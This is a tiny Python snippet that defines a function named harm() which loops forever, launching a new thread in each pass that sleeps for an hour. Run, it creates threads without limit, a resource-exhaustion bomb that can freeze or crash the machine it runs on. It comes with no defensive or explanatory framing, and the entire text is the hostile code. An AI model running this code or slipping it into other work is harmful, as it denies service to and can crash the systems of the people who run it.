import threading
import time


def harm():
    while True:
        threading.Thread(target=time.sleep, args=(3600,)).start()
